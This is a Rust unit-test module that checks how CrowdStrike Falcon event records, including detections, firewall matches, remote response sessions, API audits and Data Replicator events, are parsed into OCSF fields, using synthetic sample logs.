        let text = r#"{"metadata":{"customerIDString":"5c1f0e9d8c7b6a594837261504f3e2d1","offset":90213,"eventType":"IdpDetectionSummaryEvent","eventCreationTime":1767609000000,"version":"1.0"},"event":{"DetectId":"5c1f0e9d8c7b6a594837261504f3e2d1:ind:5c1f0e9d8c7b6a594837261504f3e2d1:0A1B2C3D-4E5F-4A6B-8C7D-9E0F1A2B3C4D","DetectName":"Credential scanning","DetectDescription":"An account tried many passwords against several accounts","Severity":3,"Tactic":"Credential Access","Technique":"Brute Force","Objective":"Gain Access","SourceAccountDomain":"ACME.EXAMPLE","SourceAccountName":"SVC-BACKUP","SourceAccountObjectSid":"S-1-5-21-1004336348-1177238915-682003330-2201","SourceEndpointHostName":"WS-10077.acme.example","SourceEndpointIpAddress":"10.40.1.77","PatternId":51113}}"#;
        let outcomes = parse_str("crowdstrike_falcon", text, ParseOptions::default()).unwrap();
        let record = &outcomes[0].as_ref().unwrap_or_else(|e| panic!("{e}")).ocsf;
        assert_eq!(record["actor"]["user"]["name"], "SVC-BACKUP");
        assert_eq!(record["actor"]["user"]["domain"], "ACME.EXAMPLE");
        assert_eq!(record["actor"]["user"]["uid"], "S-1-5-21-1004336348-1177238915-682003330-2201");
        assert_eq!(record["evidences"][0]["src_endpoint"]["ip"], "10.40.1.77");
        testing::assert_valid_ocsf(record, "identity detection");
    }

    #[test]
    fn detection_connections_become_evidences() {
        let detection = DETECTION_EVENT.replace(
            r#""ParentImageFileName""#,
            r#""NetworkAccesses":[{"AccessType":0,"AccessTimestamp":1767605995,"Protocol":"TCP","LocalAddress":"10.40.1.77","LocalPort":50112,"RemoteAddress":"203.0.113.90","RemotePort":443,"ConnectionDirection":0,"IsIPV6":false},{"AccessType":0,"AccessTimestamp":1767605996,"Protocol":"TCP","LocalAddress":"10.40.1.77","LocalPort":3389,"RemoteAddress":"198.51.100.12","RemotePort":61001,"ConnectionDirection":1,"IsIPV6":false}],"ParentImageFileName""#,
        );
        let outcomes = parse_str("crowdstrike_falcon", &detection, ParseOptions::default()).unwrap();
        let record = &outcomes[0].as_ref().unwrap_or_else(|e| panic!("{e}")).ocsf;
        let evidences = record["evidences"].as_array().unwrap();
        assert_eq!(evidences.len(), 3, "the process and two connections");
        assert_eq!(evidences[1]["dst_endpoint"]["ip"], "203.0.113.90", "outbound: the remote side is the destination");
        assert_eq!(evidences[1]["dst_endpoint"]["port"], 443);
        assert_eq!(evidences[2]["src_endpoint"]["ip"], "198.51.100.12", "inbound: the remote side is the source");
        assert_eq!(evidences[2]["dst_endpoint"]["port"], 3389);
        testing::assert_valid_ocsf(record, "detection with connections");
    }

    #[test]
    fn firewall_match_maps_direction_and_action() {
        let inbound = r#"{"metadata":{"customerIDString":"5c1f0e9d8c7b6a594837261504f3e2d1","offset":90212,"eventType":"FirewallMatchEvent","eventCreationTime":1767608000000,"version":"1.0"},"event":{"DeviceId":"9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b","Platform":"windows","HostName":"WS-10077","ConnectionDirection":"1","EventType":"FirewallRuleIP4Matched","Flags":{"Audit":false,"Log":true,"Monitor":true},"ICMPCode":"","ICMPType":"","ImageFileName":"System","CommandLine":"System","LocalAddress":"10.40.1.77","LocalPort":"445","MatchCount":1,"MatchCountSinceLastReport":1,"NetworkProfile":"2","PID":"4","PolicyName":"Workstations","PolicyID":"3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d","Protocol":"6","RemoteAddress":"10.40.9.21","RemotePort":"51522","RuleAction":"2","RuleDescription":"Block SMB from other workstations","RuleFamilyID":"4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e","RuleGroupName":"SMB rules","RuleName":"Inbound SMB block","RuleId":"1234567890123456789","Status":"","Timestamp":"2026-01-05T10:13:19Z","TreeID":""}}"#;
        let outcomes = parse_str("crowdstrike_falcon", inbound, ParseOptions::default()).unwrap();
        let record = &outcomes[0].as_ref().unwrap_or_else(|e| panic!("{e}")).ocsf;
        assert_eq!(record["class_uid"], 4001);
        assert_eq!(record["activity_id"], 5, "a blocked connection is refused");
        assert_eq!(record["disposition_id"], 2);
        assert_eq!(record["src_endpoint"]["ip"], "10.40.9.21", "the remote side starts an inbound connection");
        assert_eq!(record["dst_endpoint"]["ip"], "10.40.1.77");
        assert_eq!(record["dst_endpoint"]["port"], 445);
        assert_eq!(record["connection_info"]["direction_id"], 1);
        assert_eq!(record["connection_info"]["protocol_name"], "tcp");
        assert_eq!(record["firewall_rule"]["name"], "Inbound SMB block");
        assert_eq!(record["time"], 1_767_607_999_000_i64);
        testing::assert_valid_ocsf(record, "inbound block");

        let outbound = inbound.replace(r#""ConnectionDirection":"1""#, r#""ConnectionDirection":"0""#).replace(r#""RuleAction":"2""#, r#""RuleAction":"1""#);
        let outcomes = parse_str("crowdstrike_falcon", &outbound, ParseOptions::default()).unwrap();
        let record = &outcomes[0].as_ref().unwrap().ocsf;
        assert_eq!(record["activity_id"], 6);
        assert_eq!(record["action_id"], 1);
        assert_eq!(record["src_endpoint"]["ip"], "10.40.1.77", "the local side starts an outbound connection");
        assert_eq!(record["dst_endpoint"]["port"], 51522);
        testing::assert_valid_ocsf(record, "outbound allow");
    }

    #[test]
    fn remote_response_session_names_user_and_host() {
        let start = r#"{"metadata":{"customerIDString":"5c1f0e9d8c7b6a594837261504f3e2d1","offset":90230,"eventType":"RemoteResponseSessionStartEvent","eventCreationTime":1767611000000,"version":"1.0"},"event":{"SessionId":"6e5d4c3b-2a19-4f8e-9d7c-6b5a4f3e2d1c","HostnameField":"WS-10077","UserName":"ingrid.larsen@acme.example","StartTimestamp":1767610995,"AgentIdString":"9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b"}}"#;
        let outcomes = parse_str("crowdstrike_falcon", start, ParseOptions::default()).unwrap();
        let record = &outcomes[0].as_ref().unwrap_or_else(|e| panic!("{e}")).ocsf;
        assert_eq!(record["class_uid"], 6003);
        assert_eq!(record["activity_id"], 1);
        assert_eq!(record["api"]["operation"], "RemoteResponseSessionStart");
        assert_eq!(record["actor"]["user"]["name"], "ingrid.larsen@acme.example");
        assert_eq!(record["actor"]["session"]["uid"], "6e5d4c3b-2a19-4f8e-9d7c-6b5a4f3e2d1c");
        assert_eq!(record["device"]["hostname"], "WS-10077");
        assert_eq!(record["device"]["uid"], "9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b");
        assert_eq!(record["time"], 1_767_610_995_000_i64, "StartTimestamp dates the start");
        testing::assert_valid_ocsf(record, "session start");

        let end = start.replace("SessionStartEvent", "SessionEndEvent").replace("StartTimestamp", "EndTimestamp").replace("1767610995", "1767611400");
        let outcomes = parse_str("crowdstrike_falcon", &end, ParseOptions::default()).unwrap();
        let record = &outcomes[0].as_ref().unwrap().ocsf;
        assert_eq!(record["activity_id"], 4);
        assert_eq!(record["time"], 1_767_611_400_000_i64);
        testing::assert_valid_ocsf(record, "session end");
    }

    #[test]
    fn api_activity_audit_names_client_and_request() {
        let text = r#"{"metadata":{"customerIDString":"5c1f0e9d8c7b6a594837261504f3e2d1","offset":90240,"eventType":"APIActivityAuditEvent","eventCreationTime":1767611100500,"version":"1.0"},"event":{"UserId":"","UserIp":"","OperationName":"logged","ServiceName":"api_request","Success":true,"UTCTimestamp":1767611100,"Attributes":{"APIClientID":"7f6e5d4c3b2a19087f6e5d4c3b2a1908","request_method":"GET","request_path":"/devices/queries/devices/v1","status_code":"200","user_agent":"falcon-sync/3.2","request_host":"api.eu-1.crowdstrike.com"},"Message":"","Source":"api_request","SourceIp":"198.51.100.140","AuditKeyValues":[{"Key":"request_method","ValueString":"GET"}]}}"#;
        let outcomes = parse_str("crowdstrike_falcon", text, ParseOptions::default()).unwrap();
        let record = &outcomes[0].as_ref().unwrap_or_else(|e| panic!("{e}")).ocsf;
        assert_eq!(record["class_uid"], 6003);
        assert_eq!(record["actor"]["app_uid"], "7f6e5d4c3b2a19087f6e5d4c3b2a1908");
        assert_eq!(record["src_endpoint"]["ip"], "198.51.100.140", "SourceIp stands in for an empty UserIp");
        assert_eq!(record["http_request"]["http_method"], "GET");
        assert_eq!(record["http_request"]["url"]["path"], "/devices/queries/devices/v1");
        assert_eq!(record["http_request"]["user_agent"], "falcon-sync/3.2");
        assert_eq!(record["status_code"], "200");
        testing::assert_valid_ocsf(record, "API activity audit");
    }

    #[test]
    fn unmapped_host_event_keeps_device() {
        let text = r#"{"metadata":{"customerIDString":"5c1f0e9d8c7b6a594837261504f3e2d1","offset":90250,"eventType":"CustomerIOCEvent","eventCreationTime":1767611200000,"version":"1.0"},"event":{"AgentIdString":"9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b","ProcessId":"88120044","ComputerName":"WS-10077","SHA256String":"6e7f8a9b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f","FileName":"sync.exe","FilePath":"\\Device\\HarddiskVolume3\\Tools","CommandLine":"sync.exe --all","DeviceId":"9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b"}}"#;
        let outcomes = parse_str("crowdstrike_falcon", text, ParseOptions::default()).unwrap();
        let record = &outcomes[0].as_ref().unwrap_or_else(|e| panic!("{e}")).ocsf;
        assert_eq!(record["class_uid"], 0);
        assert_eq!(record["device"]["hostname"], "WS-10077");
        assert_eq!(record["device"]["uid"], "9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b");
        testing::assert_valid_ocsf(record, "customer IOC event");
    }

    #[test]
    fn scheduled_report_maps_to_web_resource() {
        let text = r#"{"metadata":{"customerIDString":"5c1f0e9d8c7b6a594837261504f3e2d1","offset":90211,"eventType":"ScheduledReportNotificationEvent","eventCreationTime":1767610800000,"version":"1.0"},"event":{"UserUUID":"3f4e5d6c-7b8a-4c9d-8e0f-1a2b3c4d5e6f","UserID":"ingrid.larsen@acme.example","ExecutionID":"9a8b7c6d5e4f30211203f4e5d6c7b8a9","ReportID":"0f1e2d3c4b5a69788796a5b4c3d2e1f0","ReportName":"Weekly unsigned drivers","ReportType":"event_search","ReportFileReference":"/reports/entities/report-executions-download/v1?ids=9a8b7c6d5e4f30211203f4e5d6c7b8a9","Status":1,"StatusMessage":"","ExecutionMetadata":{"ExecutionStart":1767610790000,"ExecutionDuration":512,"ReportFileName":"Weekly_unsigned_drivers_2026_January_05.csv","ResultCount":12,"SearchWindowStart":1767006000000,"SearchWindowEnd":1767610800000}}}"#;
        let outcomes = parse_str("crowdstrike_falcon", text, ParseOptions::default()).unwrap();
        let record = &outcomes[0].as_ref().unwrap_or_else(|e| panic!("{e}")).ocsf;
        assert_eq!(record["class_uid"], 6001);
        assert_eq!(record["activity_id"], 1);
        assert_eq!(record["actor"]["user"]["name"], "ingrid.larsen@acme.example");
        assert_eq!(record["actor"]["user"]["uid"], "3f4e5d6c-7b8a-4c9d-8e0f-1a2b3c4d5e6f");
        assert_eq!(record["web_resources"][0]["name"], "Weekly_unsigned_drivers_2026_January_05.csv");
        assert_eq!(record["web_resources"][0]["uid"], "0f1e2d3c4b5a69788796a5b4c3d2e1f0");
        assert_eq!(record["time"], 1_767_610_800_000_i64);
        assert_eq!(record["start_time"], 1_767_610_790_000_i64);
        testing::assert_valid_ocsf(record, "scheduled report");
    }

    #[test]
    fn unknown_stream_event_is_base_event() {
        let text = r#"{"metadata":{"customerIDString":"1c2d3e4f5a6b47c8d9e0f1a2b3c4d5e6","offset":5120,"eventType":"MobileDetectionSummaryFutureEvent2","eventCreationTime":1767606000000,"version":"1.0"},"event":{"UserName":"ops@acme.example","Description":"new kind of event","Count":3}}"#;
        let outcomes = parse_str("crowdstrike_falcon", text, ParseOptions::default()).unwrap();
        let ocsf = &outcomes[0].as_ref().unwrap_or_else(|e| panic!("{e}")).ocsf;
        testing::assert_valid_ocsf(ocsf, "unknown event type");
        assert_eq!(ocsf["class_uid"], 0);
        assert_eq!(ocsf["metadata"]["event_code"], "MobileDetectionSummaryFutureEvent2");
        assert_eq!(ocsf["actor"]["user"]["name"], "ops@acme.example");
        assert_eq!(ocsf["unmapped"]["Count"], 3);
    }

    #[test]
    fn data_replicator_events_map_by_name() {
        let common = r#""aid":"0a1b2c3d4e5f60718293a4b5c6d7e8f9","cid":"9f8e7d6c5b4a39281706f5e4d3c2b1a0","event_platform":"Win","ComputerName":"LT-2291""#;
        let cases = [
            (
                format!(r#"{{"event_simpleName":"ProcessRollup2",{common},"timestamp":"1767606000250","RawProcessId":"4404","TargetProcessId":"2281907411","ParentProcessId":"2281900002","ParentBaseFileName":"explorer.exe","ImageFileName":"\\Device\\HarddiskVolume2\\Windows\\System32\\rundll32.exe","CommandLine":"rundll32.exe shell32.dll,Control_RunDLL","UserName":"ACME\\r.bauer","UserSid":"S-1-5-21-4-5-6-1120","SHA256HashData":"b1c2d3e4f5a60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9"}}"#),
                1007,
                1,
            ),
            (
                format!(r#"{{"event_simpleName":"EndOfProcess",{common},"ContextTimeStamp":"1767606001.500","timestamp":"1767609999000","TargetProcessId":"2281907411","RawProcessId":"4404"}}"#),
                1007,
                2,
            ),
            (format!(r#"{{"event_simpleName":"DnsRequest",{common},"timestamp":"1767606002000","DomainName":"cdn.example.net","RequestType":"28","IP4Records":"192.0.2.80;"}}"#), 4003, 1),
            (
                format!(r#"{{"event_simpleName":"NetworkReceiveAcceptIP4",{common},"timestamp":"1767606003000","LocalAddressIP4":"10.20.0.15","LocalPort":"3389","RemoteAddressIP4":"198.51.100.33","RemotePort":"61002","Protocol":"6"}}"#),
                4001,
                1,
            ),
            (
                format!(r#"{{"event_simpleName":"UserLogonFailed2",{common},"ContextTimeStamp":"1767606004.125","UserName":"administrator","LogonType":"3","RemoteAddressIP4":"203.0.113.19","SubStatus":"3221225578"}}"#),
                3002,
                1,
            ),
            (format!(r#"{{"event_simpleName":"AsepValueUpdate",{common},"timestamp":"1767606005000","RegObjectName":"\\REGISTRY\\MACHINE\\SOFTWARE\\Run"}}"#), 0, 99),
        ];
        let mut records = Vec::new();
        for (text, class_uid, activity_id) in &cases {
            let outcomes = parse_str("crowdstrike_falcon", text, ParseOptions::default()).unwrap();
            let ocsf = outcomes[0].as_ref().unwrap_or_else(|e| panic!("{text}: {e}")).ocsf.clone();
            testing::assert_valid_ocsf(&ocsf, text);
            assert_eq!(ocsf["class_uid"], *class_uid, "{text}");
            assert_eq!(ocsf["activity_id"], *activity_id, "{text}");
            assert_eq!(ocsf["device"]["hostname"], "LT-2291", "{text}");
            records.push(ocsf);
        }
        let launch = &records[0];
        assert_eq!(launch["time"], 1767606000250_i64);
        assert_eq!(launch["process"]["pid"], 4404);
        assert_eq!(launch["process"]["name"], "rundll32.exe");
        assert_eq!(launch["process"]["user"]["name"], "r.bauer");
        assert_eq!(launch["process"]["user"]["domain"], "ACME");
        assert_eq!(launch["process"]["parent_process"]["name"], "explorer.exe");
        assert_eq!(records[1]["time"], 1767606001500_i64, "the sensor's time, not the cloud's");
        assert_eq!(records[2]["query"]["hostname"], "cdn.example.net");
        assert_eq!(records[2]["query"]["type"], "AAAA");
        assert_eq!(records[2]["answers"][0]["rdata"], "192.0.2.80");
        let accepted = &records[3];
        assert_eq!(accepted["src_endpoint"]["ip"], "198.51.100.33");
        assert_eq!(accepted["dst_endpoint"]["port"], 3389);
        assert_eq!(accepted["connection_info"]["direction_id"], 1);
        let failed = &records[4];
        assert_eq!(failed["status_id"], 2);
        assert_eq!(failed["time"], 1767606004125_i64);
        assert_eq!(failed["src_endpoint"]["ip"], "203.0.113.19");
        assert_eq!(failed["user"]["name"], "administrator");
        assert_eq!(failed["logon_type_id"], 3);
    }

    #[test]
    fn malformed_input_is_rejected() {
        let cases = [
            ("plain text", "DetectionSummaryEvent on WS-10077"),
            ("truncated JSON", r#"{"metadata":{"eventType":"DetectionSummaryEvent"},"event":{"#),
            ("no metadata", r#"{"event":{"ComputerName":"WS-10077"}}"#),
            ("event is not an object", r#"{"metadata":{"eventType":"DetectionSummaryEvent"},"event":"x"}"#),
            ("Threat Graph vertex without type or time", r#"{"metadata":{"eventType":"Vertex"},"event":{"id":"aid:1"}}"#),
            ("unknown event type without time", r#"{"metadata":{"eventType":"FutureEvent"},"event":{}}"#),
            ("Data Replicator event without time", r#"{"event_simpleName":"ProcessRollup2","aid":"0a1b2c3d4e5f60718293a4b5c6d7e8f9"}"#),
            ("CEF from another vendor", "CEF:0|Acme|Widget|1.0|1|x|3|src=10.0.0.1"),
            ("CEF detection without time", "CEF:0|CrowdStrike|FalconHost|1.0|DetectionSummaryEvent|x|3|shost=a"),
        ];
        for (name, text) in cases {
            let outcomes = parse_str("crowdstrike_falcon", text, ParseOptions::default()).unwrap();
            assert!(!outcomes.is_empty(), "{name}: no outcome");
            assert!(outcomes.iter().all(Result::is_err), "{name}: accepted");
        }
    }

    #[test]
    fn corpus_samples_parse() {
        let Some(samples) = testing::corpus_samples(&["sekoia/CrowdStrike/crowdstrike_falcon"], |_| true) else {
            println!("corpus not found; skipped");
            return;
        };
        let outcomes = testing::corpus_outcomes("crowdstrike_falcon", &samples);
        let failed: Vec<_> = outcomes.iter().filter(|o| o.result.is_err()).map(|o| o.name.as_str()).collect();
        assert!(failed.is_empty(), "corpus samples not parsed: {failed:?}");
    }
}
